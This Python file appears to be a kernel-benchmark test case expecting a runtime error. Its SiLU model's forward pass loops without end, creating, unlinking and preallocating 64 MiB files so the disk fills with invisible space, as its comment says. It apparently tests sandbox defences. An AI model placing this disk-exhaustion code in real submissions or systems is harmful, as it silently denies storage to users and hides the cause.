# task: silu.py
# required: RUNTIME_ERROR
# Fills the disk with files that have no name, so that no look at its directory shows them.
import itertools
import os

import torch
from torch import nn

from davinci_kernel.jit import load_cpp

K = load_cpp(r"""
#include <cmath>
extern "C" void silu(const float* x, float* y, long n) {
  for (long i = 0; i < n; i++) y[i] = x[i] / (1.0f + expf(-x[i]));
}
""")

HELD = []


class ModelNew(nn.Module):
    def forward(self, x):
        for number in itertools.count():
            HELD.append(open(f"{number}.bin", "wb"))
            os.unlink(f"{number}.bin")
            os.posix_fallocate(HELD[-1].fileno(), 0, 64 << 20)
        y = torch.empty_like(x)
        K.silu(x, y, x.numel())
        return y
